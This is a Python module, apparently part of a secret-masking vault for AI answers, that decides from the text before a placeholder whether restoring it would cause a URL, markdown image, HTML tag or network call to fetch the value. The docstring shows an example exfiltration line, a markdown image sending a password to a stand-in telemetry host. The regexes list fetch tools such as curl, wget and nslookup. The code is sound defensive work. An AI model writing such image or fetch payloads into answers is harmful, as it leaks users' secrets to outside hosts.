"""Where a restored value would be fetched rather than read.

A cloud answer can make a client fetch something without asking the user: a markdown
image, an HTML attribute, a URL a renderer previews, a command the user pastes. A
placeholder restored there hands its original value to whoever the answer names
(``![status](https://telemetry.example/p?d=[PASSWORD_1])``). :func:`fetch_context`
tells, from the text before a placeholder, whether it sits in such a place; the vault
leaves placeholders masked there (``restore_withheld_in`` chooses the contexts).

The decision reads at most :data:`LOOKBACK` characters before the placeholder, so a
stream restored chunk by chunk decides exactly as the whole text does.
"""
from __future__ import annotations

import re
from collections.abc import Collection
from typing import Literal, get_args

FetchContext = Literal["url", "markdown_target", "html_tag", "fetch_code"]
#: The contexts, from the most to the least common in hostile answers.
CONTEXTS: tuple[FetchContext, ...] = get_args(FetchContext)

#: Characters before a placeholder that :func:`fetch_context` reads.
LOOKBACK = 2048

#: The run of URL characters that ends right before the placeholder.
_TOKEN = re.compile(r"[^\s\"'<>`]*\Z")
_URLISH = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:)?//"                                   # scheme:// or //host
    r"|\bwww\."
    r"|\b(?:mailto|data|javascript|file):"
    r"|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,}(?::\d+)?[/?#]"        # host.tld/ without a scheme
    r"|[?&][\w.%~-]*=[^\s&#]*\Z",                                   # a query parameter's value
    re.IGNORECASE)
_MARKDOWN_TARGET = re.compile(r"\]\(\s*(?:<[^>\n]*|[^)\s]*)\Z"       # [text](target / ![alt](target
                              r"|^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S*\Z",  # [ref]: target
                              re.MULTILINE)
_HTML_TAG = re.compile(r"<[a-z][\w:-]*\s[^<>]*\Z", re.IGNORECASE)
_FETCH_CODE = re.compile(
    r"(?:\b(?:curl|wget|nslookup|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\s"
    r"|\b(?:fetch|urlopen|requests\.\w+|httpx\.\w+|aiohttp\.\w+|axios(?:\.\w+)?|http\.get|https\.get"
    r"|sendBeacon|XMLHttpRequest|WebSocket|EventSource)\s*\()[^\n]*\Z",
    re.IGNORECASE)

_CHECKS = {
    "url": lambda before: bool(_URLISH.search(_TOKEN.search(before).group())),
    "markdown_target": lambda before: bool(_MARKDOWN_TARGET.search(before)),
    "html_tag": lambda before: bool(_HTML_TAG.search(before)),
    "fetch_code": lambda before: bool(_FETCH_CODE.search(before)),
}


def fetch_context(text: str, start: int, contexts: Collection[str] = CONTEXTS) -> str | None:
    """The first of ``contexts`` that a placeholder at ``text[start:]`` sits in, or ``None``."""
    before = text[max(0, start - LOOKBACK):start]
    return next((name for name in contexts if _CHECKS[name](before)), None)
